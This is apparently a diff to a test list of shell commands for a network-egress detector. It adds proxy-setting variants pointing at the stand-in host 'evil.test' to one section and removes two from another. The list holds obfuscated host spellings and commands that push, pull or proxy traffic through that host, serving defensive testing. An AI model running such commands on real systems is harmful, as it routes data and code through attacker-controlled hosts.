@@ -50,6 +50,8 @@ curl http://%65vil%2Etest/
 curl ｅｖｉｌ。test
 cat https://evil.test/x
 dig @evil.test x
+env http_proxy=evil.test make
+export http_proxy=evil.test
 docker pull evil.test/x:1
 ftp evil.test
 gh api --hostname evil.test x
@@ -61,7 +63,11 @@ git clone ssh://git@evil.test:22/a
 git push https://me@evil.test/x.git main
 git remote add x evil.test:a
 git submodule add evil.test:x
+http_proxy=evil.test curl $x
 http_proxy=evil.test make
+http_proxy=evil.test; curl $x
+bash -c 'http_proxy=evil.test make'
+for x in a; do declare http_proxy=evil.test; done
 HTTPS_PROXY=http://me:pw@EVIL.test:80 cat x
 nc -xevil.test:80 good.test 80
 npm --registry=//evil.test/ install
@@ -91,8 +97,6 @@ curl -sK file
 curl 'http://[a-e]vil.test/'
 curl http://user:p/w@evil.test/
 curl https://good.test/evil.test
-env http_proxy=evil.test make
-export http_proxy=evil.test
 frob evil.test
 gh pr create --body 'see https://evil.test'
 mkdir evil.test
